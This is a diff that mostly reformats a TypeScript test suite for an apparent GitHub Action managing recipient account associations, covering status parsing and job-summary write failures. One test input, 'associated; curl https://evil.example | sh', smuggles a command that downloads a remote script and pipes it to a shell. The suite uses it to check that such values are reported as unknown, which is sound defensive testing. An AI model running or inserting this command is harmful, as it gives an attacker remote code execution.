@@ -16,7 +16,14 @@ import {
   startScenario,
 } from './scenario.ts';
 
-const STATUSES = ['associating', 'associated', 'disassociating', 'disassociated', 'mixed', 'unknown'];
+const STATUSES = [
+  'associating',
+  'associated',
+  'disassociating',
+  'disassociated',
+  'mixed',
+  'unknown',
+];
 const OTHER_STATUSES = [
   'validating',
   'associated; curl https://evil.example | sh',
@@ -28,32 +35,57 @@ const OTHER_STATUSES = [
 ];
 
 /** All values of `status` in the outputs of a run. */
-function statusesOf({ outputs, recipients }: Awaited<ReturnType<typeof runScenario>>): string[] {
-  return [outputs['status'] ?? 'missing', ...recipients.map(({ status }) => String(status))];
+function statusesOf({
+  outputs,
+  recipients,
+}: Awaited<ReturnType<typeof runScenario>>): string[] {
+  return [
+    outputs['status'] ?? 'missing',
+    ...recipients.map(({ status }) => String(status)),
+  ];
 }
 
 /** Runs a scenario in which every list shows this status. */
 function runWithStatus(status: string, scenario: Scenario) {
-  const record = { id: RECORD, account_id: RECIPIENT, association_status: status };
+  const record = {
+    id: RECORD,
+    account_id: RECIPIENT,
+    association_status: status,
+  };
   return runWithFault(respondWith(bodyOf([record])), scenario);
 }
 
 describe.concurrent('the status in the outputs', () => {
-  it.concurrent.each(OTHER_STATUSES)('is unknown for a word that is not published: %s', async (status) => {
-    for (const inputs of [{ timeout: '4s' }, { wait: 'false' }, { 'dry-run': 'true' }]) {
-      const run = await runWithStatus(status, { inputs });
-      expect(statusesOf(run)).toEqual(['unknown', 'unknown']);
-    }
-  });
+  it.concurrent.each(OTHER_STATUSES)(
+    'is unknown for a word that is not published: %s',
+    async (status) => {
+      for (const inputs of [
+        { timeout: '4s' },
+        { wait: 'false' },
+        { 'dry-run': 'true' },
+      ]) {
+        const run = await runWithStatus(status, { inputs });
+        expect(statusesOf(run)).toEqual(['unknown', 'unknown']);
+      }
+    },
+  );
 
-  it.concurrent.each(OTHER_STATUSES)('is unknown while a removal waits for: %s', async (status) => {
-    const run = await runWithStatus(status, {
-      recipients: [{ accountId: RECIPIENT, id: RECORD, status: 'associated' }],
-      inputs: { state: 'absent', timeout: '4s' },
-    });
-    expect(run).toMatchObject({ exitCode: 1, outputs: { 'recipient-id': RECORD } });
-    expect(statusesOf(run)).toEqual(['unknown', 'unknown']);
-  });
+  it.concurrent.each(OTHER_STATUSES)(
+    'is unknown while a removal waits for: %s',
+    async (status) => {
+      const run = await runWithStatus(status, {
+        recipients: [
+          { accountId: RECIPIENT, id: RECORD, status: 'associated' },
+        ],
+        inputs: { state: 'absent', timeout: '4s' },
+      });
+      expect(run).toMatchObject({
+        exitCode: 1,
+        outputs: { 'recipient-id': RECORD },
+      });
+      expect(statusesOf(run)).toEqual(['unknown', 'unknown']);
+    },
+  );
 
   it.each(['associated ', 'associated\u200b', '\u001b[0massociated'])(
     'is unknown for a published word with something around it: %j',
@@ -105,12 +137,16 @@ it('outputs that cannot be written fail the step, after everything else was done
       message: expect.stringMatching(/recipient-id.*\/nowhere\/output/),
     },
   ]);
-  expect(activeRecords(run)).toMatchObject([{ association_status: 'associated' }]);
+  expect(activeRecords(run)).toMatchObject([
+    { association_status: 'associated' },
+  ]);
   expect(run.summary).toContain('1 account added');
 });
 
 it('a log that nobody reads any more does not end the run', async () => {
-  const started = await startScenario({ api: { timeline: { associateMs: 1500 } } });
+  const started = await startScenario({
+    api: { timeline: { associateMs: 1500 } },
+  });
   await started.waitForRequest('POST', /recipients$/);
   started.child.stdout?.destroy();
   const { exitCode, signal, outputs, summary } = await started.finished;
@@ -126,36 +162,54 @@ describe.concurrent('summary: false', () => {
   });
 
   it('writes no job summary of invalid inputs either', async () => {
-    const run = await runScenario({ inputs: { summary: 'false', 'share-id': '' } });
+    const run = await runScenario({
+      inputs: { summary: 'false', 'share-id': '' },
+    });
     expect(run).toMatchObject({ exitCode: 1, summary: '' });
   });
 });
 
-describe.runIf(process.platform !== 'win32')('a job summary whose file is a FIFO that nobody reads', () => {
-  it.concurrent.for<[string, Record<string, string>]>([
-    ['does not hold the run', {}],
-    ['does not hold a run with invalid inputs', { 'share-id': '' }],
-  ])('%s', async ([, inputs], { expect, onTestFinished }) => {
-    const folder = mkdtempSync(join(tmpdir(), 'summary-'));
-    onTestFinished(() => rmSync(folder, { recursive: true }));
-    const GITHUB_STEP_SUMMARY = join(folder, 'fifo');
-    execFileSync('mkfifo', [GITHUB_STEP_SUMMARY]);
-    const run = await runScenario({ env: { GITHUB_STEP_SUMMARY }, inputs, killAfterMs: 20_000 });
-    expect(run.signal).toBe(null);
-    expect(run.annotations).toContainEqual({
-      level: 'warning',
-      title: 'Job summary could not be written',
-      message: 'GITHUB_STEP_SUMMARY is a FIFO.',
+describe.runIf(process.platform !== 'win32')(
+  'a job summary whose file is a FIFO that nobody reads',
+  () => {
+    it.concurrent.for<[string, Record<string, string>]>([
+      ['does not hold the run', {}],
+      ['does not hold a run with invalid inputs', { 'share-id': '' }],
+    ])('%s', async ([, inputs], { expect, onTestFinished }) => {
+      const folder = mkdtempSync(join(tmpdir(), 'summary-'));
+      onTestFinished(() => rmSync(folder, { recursive: true }));
+      const GITHUB_STEP_SUMMARY = join(folder, 'fifo');
+      execFileSync('mkfifo', [GITHUB_STEP_SUMMARY]);
+      const run = await runScenario({
+        env: { GITHUB_STEP_SUMMARY },
+        inputs,
+        killAfterMs: 20_000,
+      });
+      expect(run.signal).toBe(null);
+      expect(run.annotations).toContainEqual({
+        level: 'warning',
+        title: 'Job summary could not be written',
+        message: 'GITHUB_STEP_SUMMARY is a FIFO.',
+      });
+      expect(Object.keys(run.outputs)).toHaveLength(4);
     });
-    expect(Object.keys(run.outputs)).toHaveLength(4);
-  });
-});
+  },
+);
 
 it.concurrent.each<[string, string | undefined]>([
   ['does not exist', '/nowhere/summary.md'],
   ['is missing', undefined],
-])('a job summary that cannot be written is a warning: its file %s', async (_, GITHUB_STEP_SUMMARY) => {
-  const run = await runScenario({ env: { GITHUB_STEP_SUMMARY } });
-  expect(run).toMatchObject({ exitCode: 0, stderr: '', outputs: { status: 'associated' } });
-  expect(run.annotations).toMatchObject([{ level: 'warning', title: 'Job summary could not be written' }]);
-});
+])(
+  'a job summary that cannot be written is a warning: its file %s',
+  async (_, GITHUB_STEP_SUMMARY) => {
+    const run = await runScenario({ env: { GITHUB_STEP_SUMMARY } });
+    expect(run).toMatchObject({
+      exitCode: 0,
+      stderr: '',
+      outputs: { status: 'associated' },
+    });
+    expect(run.annotations).toMatchObject([
+      { level: 'warning', title: 'Job summary could not be written' },
+    ]);
+  },
+);
